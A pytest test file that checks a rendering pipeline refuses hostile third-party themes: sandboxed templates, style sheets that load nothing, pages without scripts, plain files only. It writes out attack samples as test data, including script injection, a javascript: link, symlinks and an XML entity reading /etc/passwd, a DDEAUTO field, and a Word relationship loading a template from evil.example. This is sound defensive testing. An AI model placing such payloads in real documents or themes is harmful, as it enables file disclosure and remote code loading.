"""Promise: a theme of somebody else reaches nothing, runs nothing, fetches nothing, and is told so.

Its templates run in a sandbox, its style sheets and pages are looked at, its files are plain ones.
"""

import os
import re
import subprocess
import sys
import tracemalloc
from collections.abc import Callable
from pathlib import Path

import pytest

from pipeline.diagnostics import Report
from pipeline.document.document import Document
from renderers import Context, html, pdf, theme_allowance, word
from renderers.html.style import Shared
from renderers.page_gate import refuse_page
from renderers.theme_files import check_style
from renderers.themes import OWN_FOLDER, Theme, ThemeError
from tests.conftest import ROOT
from tests.hostile_themes import BODIES, ESCAPES, GIVEN, HEAD, HEADS, POLICY, STYLES
from tests.small_library import write_small_library

VALUES = {
    "text": "words",
    "number": 3,
    "items": [{"id": "a", "title": "A"}, {"id": "b", "title": "B"}],
    "words": {"done": "Step {}", "items": "x"},
    "say": lambda text: f"<{text}>",
}


def written(folder: Path, name: str, text: str) -> Theme:
    (folder / name).parent.mkdir(parents=True, exist_ok=True)
    (folder / name).write_text(text, encoding="utf-8")
    return Theme(folder)


def test_there_are_many_cases() -> None:
    assert len(ESCAPES) + len(STYLES) + len(BODIES) + len(HEADS) > 200


@pytest.fixture
def quick(monkeypatch: pytest.MonkeyPatch) -> None:
    """Allow so little that the end of it is reached at once, even where memory is traced."""
    monkeypatch.setattr(theme_allowance, "SPARE_STEPS", 2_000)


@pytest.mark.parametrize("text", ESCAPES, ids=lambda it: ascii(it[:60]))
@pytest.mark.usefixtures("quick")
def test_a_template_reaches_nothing_grows_no_text_and_ends(tmp_path: Path, text: str) -> None:
    theme = written(tmp_path, "html/probe.html.j2", f"\n{text}\n")
    tracemalloc.start()
    with pytest.raises(ThemeError) as caught:
        theme.template("html/probe.html.j2").render(VALUES)
    _, most = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert most < 100_000_000
    assert "probe.html.j2" in str(caught.value)
    assert "root:" not in str(caught.value)


def test_a_template_does_what_a_theme_needs(tmp_path: Path) -> None:
    text = (
        "{% macro m(x) %}<i>{{ x }}</i>{% endmacro %}{% for it in items %}{{ loop.index }}"
        "{{ it.id }}"
        "{% endfor %}{{ words.done | filled(number + 2 * 3) }}{{ m('<') }}{{ say('a') }}"
        "{{ items | length }}{{ 'a' ~ '<' ~ m('b') }}{{ ['a', 'b'] | join(', ') }}"
        "{{ words['items'] }}"
        "{% for key, value in {'k': 'v'}.items() %}{{ key }}{{ value }}{% endfor %}"
    )
    theme = written(tmp_path, "html/probe.html.j2", text)
    made = theme.template("html/probe.html.j2").render(VALUES)
    assert made == "1a2bStep 9<i>&lt;</i>&lt;a&gt;2a&lt;<i>b</i>a, bxkv"


def test_what_python_knows_is_unknown_to_templates(tmp_path: Path) -> None:
    """Objects that are no plain values show nothing, even if they get there."""
    for text in ("{{ it.folder }}", "{{ it.path('x') }}", "{{ it['folder'] }}"):
        theme = written(tmp_path, "html/probe.html.j2", text)
        with pytest.raises(ThemeError, match=r"unsafe|undefined|not safely"):
            theme.template("html/probe.html.j2").render(it=theme)


@pytest.mark.parametrize("text", STYLES, ids=lambda it: ascii(it[:60]))
def test_a_style_sheet_loads_nothing(text: str) -> None:
    with pytest.raises(ThemeError, match=r"own\.css:2: |too deeply"):
        check_style(f"\n{text}\n", "own.css")


def test_our_own_style_sheets_would_be_accepted() -> None:
    found = sorted((OWN_FOLDER / "html").glob("*.css"))
    assert len(found) > 4
    for path in found:
        check_style(path.read_text(encoding="utf-8"), path.name)
    check_style("a{b:url(data:image/png;base64,AA)} c{d:url('#e')} @media print{f{g:h}}", "own.css")


@pytest.mark.parametrize("text", BODIES, ids=lambda it: ascii(it[:60]))
def test_a_page_holds_nothing_that_runs_or_loads(text: str) -> None:
    body = "</head><body>" + text
    with pytest.raises(ThemeError, match=r"^page\.html: "):
        refuse_page(HEAD + body, GIVEN, "page.html")
    with pytest.raises(ThemeError):
        refuse_page(f"<html><body>{text}", GIVEN | {"medium": "print"}, "page.html")


@pytest.mark.parametrize("head", HEADS, ids=lambda it: ascii(it[80:200]))
def test_the_policy_of_a_page_is_ours(head: str) -> None:
    refuse_page(f"{HEAD}</head><body><a href='#a'>a</a></body>", GIVEN, "page.html")
    with pytest.raises(ThemeError, match=r"^page\.html: "):
        refuse_page(f"{head}</head><body>", GIVEN, "page.html")


def test_a_page_of_a_site_may_use_the_files_beside_it() -> None:
    policy = POLICY.replace("'sha256-S'", "'self'").replace("'sha256-J'", "'self'")
    page = HEAD.replace(POLICY, policy.replace("img-src", "img-src 'self'"))
    page += '<link rel="stylesheet" href="style.css"></head><body><img src="a.png"></body>'
    refuse_page(page, GIVEN | {"shared": {"style": "style.css"}}, "page.html")
    with pytest.raises(ThemeError):
        refuse_page(page, GIVEN, "page.html")


# ── whole themes ──────────────────────────────────────────────────────────────────────────────


@pytest.fixture(scope="module")
def document(documents: dict[str, Document]) -> Document:
    return documents["everything-en"]


def test_a_theme_that_says_nothing_makes_what_ours_makes(
    document: Document, tmp_path: Path
) -> None:
    """Its templates are ours, run in the sandbox: each gets plain values only, and is accepted."""
    ours, theirs = (Context(it, Report()) for it in (Theme(), Theme(tmp_path)))
    for renderer in (html.render, word.render):
        assert renderer(document, ours) == renderer(document, theirs)
    page = html.page(document, theirs, "print", lambda _: "asset:" + "0" * 64)
    assert page == html.page(document, ours, "print", lambda _: "asset:" + "0" * 64)
    shared = Shared("a.css", "a.js", "index.html", "All")
    html.page(document, theirs, "screen", lambda _: "a.png", shared)


EVIL = "<script>alert(1)</script>"
THEMES: dict[str, tuple[str, Callable[[Path, str], object], str]] = {
    "script": (
        "html/search.js",
        lambda path, own: path.write_text(own + "//"),
        "brings no scripts",
    ),
    "page": (
        "html/page.html.j2",
        lambda path, own: path.write_text(own.replace("<head>", f"<head>{EVIL}")),
        "Content-Security-Policy",
    ),
    "handler": (
        "html/nodes.html.j2",
        lambda path, own: path.write_text(
            own.replace('<p class="note"', '<p onclick="a" class="note"')
        ),
        "onclick",
    ),
    "link": (
        "html/nodes.html.j2",
        lambda path, own: path.write_text(
            own.replace('href="{{ target }}"', 'href="javascript:a"')
        ),
        "leads to",
    ),
    "style": ("html/screen.css", lambda path, _: path.write_text("a{b:url(//c)}"), "screen.css:1"),
    "values": (
        "html/values.css.j2",
        lambda path, own: path.write_text(own + "\na{b:url(//c)}"),
        "values.css.j2:",
    ),
    "end": ("html/screen.css", lambda path, _: path.write_text("</style>" + EVIL), "`</`"),
    "symbolic link": (
        "html/screen.css",
        lambda path, _: path.symlink_to("/etc/passwd"),
        "symbolic link",
    ),
    "linked folder": (
        "html",
        lambda path, _: path.symlink_to(OWN_FOLDER / "html"),
        "symbolic link",
    ),
    "bytes": ("html/screen.css", lambda path, _: path.write_bytes(b"\xff"), "UTF-8"),
    "large": ("html/screen.css", lambda path, _: path.write_bytes(b" " * 2_000_001), "larger"),
    "font": ("fonts/a.otf", lambda path, _: path.symlink_to("/etc/passwd"), "symbolic link"),
    "pipe": ("fonts/a.otf", lambda path, _: os.mkfifo(path), "no plain file"),
    "no table": ("theme.toml", lambda path, _: path.write_text("colours = 3"), "table"),
    "no toml": ("theme.toml", lambda path, _: path.write_text("["), "theme.toml"),
    "deep": ("theme.toml", lambda path, _: path.write_text("a = " + "[" * 20_000), "theme.toml"),
    "colour": (
        "theme.toml",
        lambda path, _: path.write_text('[colours]\ntext = "red;}"'),
        "colours.text",
    ),
    "family": (
        "theme.toml",
        lambda path, _: path.write_text('[fonts]\nfamily = "a\\";}</style>"'),
        "fonts.family",
    ),
    "package": (
        "theme.toml",
        lambda path, _: path.write_text('[fonts]\nfiles = ["os:.."]'),
        "fonts.files",
    ),
    "unknown": ("theme.toml", lambda path, _: path.write_text("[evil]\na = 1"), "evil"),
    "template": (
        "theme.toml",
        lambda path, _: path.write_text('[word]\ntemplate = "/etc/passwd"'),
        "no such",
    ),
    "climbing": (
        "theme.toml",
        lambda path, _: path.write_text('[word]\ntemplate = "../a"'),
        "no such",
    ),
    "relationship": (
        "word/document.rels",
        lambda path, own: path.write_text(
            own.replace(
                "</Relationships>",
                '<Relationship Id="e" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships/attachedTemplate" Target="http://evil.example/a.dotm" '
                'TargetMode="External"/></Relationships>',
            )
        ),
        "lies elsewhere",
    ),
    "field": (
        "word/footer.xml.j2",
        lambda path, own: path.write_text(
            re.sub(r'\{\{ "PAGE".*?\}\}', "DDEAUTO c:\\\\a 'b'", own)
        ),
        "DDEAUTO",
    ),
    "entity": (
        "word/header.xml.j2",
        lambda path, own: path.write_text(
            '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>' + own
        ),
        "header",
    ),
    "folder for a sheet": ("html/manual.css", lambda path, _: path.mkdir(), "no plain file"),
    "pipe for values": ("theme.toml", lambda path, _: os.mkfifo(path), "no plain file"),
    "pipe for a word file": ("word/template.docx", lambda path, _: os.mkfifo(path), "no plain"),
    "no xml": ("word/header.xml.j2", lambda path, _: path.write_text("<w:hdr>"), "header.xml"),
}


@pytest.mark.parametrize("name", THEMES)
def test_a_hostile_theme_is_refused_with_the_reason(
    document: Document, tmp_path: Path, name: str
) -> None:
    file, make, said = THEMES[name]
    (tmp_path / file).parent.mkdir(parents=True, exist_ok=True)
    own = OWN_FOLDER / file
    make(tmp_path / file, own.read_text(encoding="utf-8") if own.is_file() else "")
    renderer = word.render if file.startswith("word") or "word" in said + name else html.render
    if "no such" in said:
        renderer = word.render
    if file.startswith("fonts"):
        renderer = pdf.render
    with pytest.raises(ThemeError, match=re.escape(said)):
        renderer(document, Context(Theme(tmp_path), Report()))


def test_a_template_may_write_all_that_it_is_given_and_more(tmp_path: Path) -> None:
    text = (
        "{% macro m(x) %}<p>{{ x }}</p>{% endmacro %}{% for it in items %}{{ m(it) }}{% endfor %}"
    )
    theme = written(tmp_path, "html/probe.html.j2", text + text)
    made = theme.template("html/probe.html.j2").render(items=["x" * 1000] * 60_000)
    assert len(made) == 2 * 60_000 * 1007


# Runs a command with no allowance for themes: workers are copies, for those begun anew have theirs.
# The limit on memory is added to what is used already.
UNCOUNTED = """
import os, sys
from pathlib import Path
from build import main
from commands import workers
from renderers import theme_allowance
workers._is_single = lambda: True
theme_allowance.SPARE_STEPS = theme_allowance.SPARE_CHARACTERS = 10**18
pages = int(Path("/proc/self/statm").read_text(encoding="ascii").split()[0])
here = pages * os.sysconf("SC_PAGE_SIZE") // 1_000_000
arguments = sys.argv[1:]
if "--memory-limit" in arguments:
    arguments[-1] = str(here + int(arguments[-1]))
main(arguments)
"""


@pytest.mark.parametrize(
    ("more", "rule"),
    [
        ("{% set a = [0, 0, 0, 0, 0, 0, 0, 0] %}" + "{% for it in a %}" * 12 + "{% endfor %}" * 12,
         "unit-too-slow"),
        ("{% set a = 'aaaaaaaa' %}" + "{% set a = a ~ a %}" * 30, "unit-too-large"),
    ],
)  # fmt: skip
@pytest.mark.skipif(not Path("/proc/self/task").exists(), reason="the system cannot copy a process")
def test_what_is_never_at_an_end_ends_with_its_process(
    tmp_path: Path, more: str, rule: str
) -> None:
    """Here nothing is counted. Each other manual is built, even where few units need no workers."""
    write_small_library(tmp_path)
    own = (OWN_FOLDER / "html/page.html.j2").read_text(encoding="utf-8")
    hostile = "{% if 'second' in document.title %}" + more + "{% endif %}" + own
    written(tmp_path / "theme", "html/page.html.j2", hostile)
    places = ["--content", tmp_path / "content", "--theme", tmp_path / "theme"]
    arguments = ["build", *map(str, places), "-o", str(tmp_path / "dist"), "-f", "html"]
    limits = {
        "unit-too-slow": ["--time-limit", "3"],
        "unit-too-large": ["--memory-limit", "600"],
    }[rule]
    result = subprocess.run(
        [sys.executable, "-c", UNCOUNTED, *arguments, "--lang", "en", *limits],
        cwd=ROOT, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert result.returncode == 3
    found = [line for line in result.stderr.splitlines() if f"[{rule}]" in line]
    assert len(found) == 1, result.stderr
    (said,) = found
    assert "second.yaml" in said
    assert sorted(it.name for it in (tmp_path / "dist").iterdir()) == ["first.html", "third.html"]
